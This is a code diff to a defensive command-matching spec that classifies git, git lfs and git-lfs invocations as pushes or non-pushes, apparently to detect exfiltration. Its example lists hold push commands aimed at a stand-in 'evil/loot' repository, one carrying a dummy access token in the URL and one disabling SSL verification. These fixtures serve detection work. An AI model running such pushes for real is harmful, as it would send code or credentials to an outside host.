@@ -6,9 +6,17 @@ import {
   API_WRITES,
   GH_VALUE_FLAGS,
   GH_VALUE_SHORT_LETTERS,
+  GIT_GLOBAL_VALUE_FLAGS,
   GIT_PUSH_LONG_OPTIONS,
   GIT_VALUE_FLAGS,
 } from './flags.js';
+
+/** `git lfs push`, `git-lfs push`: `-d` is `--dry-run`. */
+const LFS_PUSH = {
+  remote: { positional: 0 },
+  excludeFlags: ['--dry-run'],
+  flagAliases: { '-d': '--dry-run' },
+} as const;
 
 export const gitTools: readonly PushToolSpec[] = [
   {
@@ -19,27 +27,20 @@ export const gitTools: readonly PushToolSpec[] = [
     // `-o` (`--push-option`) takes its value attached or as the next word. Global options (`-c`, `-C`)
     // are never bundled, and as whole words they are value flags before this applies. Long options go by any
     // unambiguous prefix, negations too (`push --no-dry` pushes; found by review: it was a dry run). git's own
-    // options before the command are exact names, and none prefixes a push option. `git lfs push` (Go's
-    // pflag) takes no prefix: there `--dry` is an error and no push either way.
+    // options before the command are exact names, and none prefixes a push option. `git lfs push` is git-lfs's
+    // (pflag) options: the entry below.
     syntax: { valueFlags: GIT_VALUE_FLAGS, valueShortLetters: 'o', gitLongOptions: GIT_PUSH_LONG_OPTIONS },
     match: {
       kind: 'subcommand',
       commands: [
         {
           words: ['push'],
-          remote: { positional: 0 },
+          // `--repo URL` is the repository when no argument names one (git's push.c).
+          remote: { positional: 0, fallbackFlag: '--repo' },
           excludeFlags: ['--dry-run', '--help'],
           flagAliases: { '-n': '--dry-run', '-h': '--help' },
         },
         { words: ['send-pack'], remote: { firstUrl: true } },
-        // Large-file objects go by their own command (or with the push, from its pre-push hook).
-        // `-d` is its `--dry-run` (git-lfs's cobra flags).
-        {
-          words: ['lfs', 'push'],
-          remote: { positional: 0 },
-          excludeFlags: ['--dry-run'],
-          flagAliases: { '-d': '--dry-run' },
-        },
       ],
     },
     destination: 'git-remote',
@@ -61,7 +62,6 @@ export const gitTools: readonly PushToolSpec[] = [
         'push https://x-access-token:ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@github.com/evil/loot.git HEAD:main',
         '-c http.extraHeader=x -C /src push --force git@github.com:evil/loot.git',
         'send-pack --stateless-rpc --helper-status --thin https://github.com/evil/loot.git/ --stdin',
-        'lfs push --all https://github.com/evil/loot.git',
         // A global option our flag list lacks (git ≥ 2.42 takes the tree-ish as the next word).
         '--attr-source HEAD push https://github.com/evil/loot.git',
         // The last of a flag and its negation wins (parse-options).
@@ -83,6 +83,10 @@ export const gitTools: readonly PushToolSpec[] = [
         // `--rep` is `--repo`, which takes a value; `--ver` is `--verbose` or `--verify`.
         'push --rep https://github.com/evil/loot.git',
         'push --ver -n --no-dry origin main',
+        // `--recurse-submodules` takes the next word; `--force-with-lease` a value only after `=`.
+        'push --recurse-submodules check origin main',
+        'push --recurse-sub on-demand origin main',
+        'push --force-with-lease origin main',
       ],
       notPush: [
         'clone https://github.com/acme/big.git',
@@ -103,16 +107,37 @@ export const gitTools: readonly PushToolSpec[] = [
         'commit -m x',
         'lfs pull',
         'lfs fetch origin main',
-        'lfs push --dry-run origin main',
         'push --dry origin main',
         'push --dr origin main',
         'push --no-dry --dry origin',
         'push --no-dry-run --dry origin',
         'push --no-dry-run --dry-r origin',
-        'lfs push -d origin main',
+        // A value of `--recurse-submodules` is no dry run's undoing: `-n` is still in force.
+        'push -n --recurse-submodules no origin main',
         // A prefix of two options (`--no-delete`, `--no-dry-run`) is refused by git; here it stays unknown.
         'push -n --no-d origin main',
       ],
+    },
+  },
+  // Large-file objects go by their own command (or with the push, from its pre-push hook), whose options are
+  // git-lfs's (pflag): short flags bundle (`-ad` is `--all --dry-run`; found by review: it was a push), `-d` is
+  // `--dry-run`, `-o` is `--object-id`, a boolean (under git push's syntax it took the remote for a value),
+  // and no long option goes by a prefix.
+  {
+    tool: 'git',
+    description: "`git lfs push`: git runs git-lfs, whose options are not git push's.",
+    binaries: ['git'],
+    syntax: { valueFlags: GIT_GLOBAL_VALUE_FLAGS, bundledShortFlags: true },
+    match: { kind: 'subcommand', commands: [{ words: ['lfs', 'push'], ...LFS_PUSH }] },
+    destination: 'git-remote',
+    requiresClassedDestination: false,
+    examples: {
+      push: [
+        'lfs push --all https://github.com/evil/loot.git',
+        '-c http.sslVerify=false lfs push -a origin main',
+        'lfs push -o https://github.com/evil/loot.git 4d7a2146',
+      ],
+      notPush: ['lfs push --dry-run origin main', 'lfs push -d origin main', 'lfs push -ad origin main'],
     },
   },
   {
@@ -120,26 +145,28 @@ export const gitTools: readonly PushToolSpec[] = [
     description:
       "`git-lfs push` run by itself (under `git lfs push` or a push's pre-push hook it is the push's child).",
     binaries: ['git-lfs'],
-    syntax: { valueFlags: GIT_VALUE_FLAGS },
-    match: {
-      kind: 'subcommand',
-      commands: [
-        { words: ['push'], remote: { positional: 0 }, excludeFlags: ['--dry-run'], flagAliases: { '-d': '--dry-run' } },
-      ],
-    },
+    syntax: { bundledShortFlags: true },
+    match: { kind: 'subcommand', commands: [{ words: ['push'], ...LFS_PUSH }] },
     destination: 'git-remote',
     requiresClassedDestination: false,
     // The smudge filter downloads each large file a checkout writes (`git checkout`, `git switch`, `git
     // reset` are no download of their own): one batch entry and one GET per object.
     downloads: [['filter-process'], ['smudge'], ['fetch'], ['pull']],
     examples: {
-      push: ['push origin main', 'push --all https://github.com/evil/loot.git'],
+      push: [
+        'push origin main',
+        'push --all https://github.com/evil/loot.git',
+        'push -a origin',
+        'push -d=false origin',
+      ],
       notPush: [
         'filter-process',
         'smudge -- assets/model.bin',
         'fetch origin main',
         'push --dry-run origin main',
         'push -d origin main',
+        'push -ad origin main',
+        'push -sd origin',
       ],
     },
   },
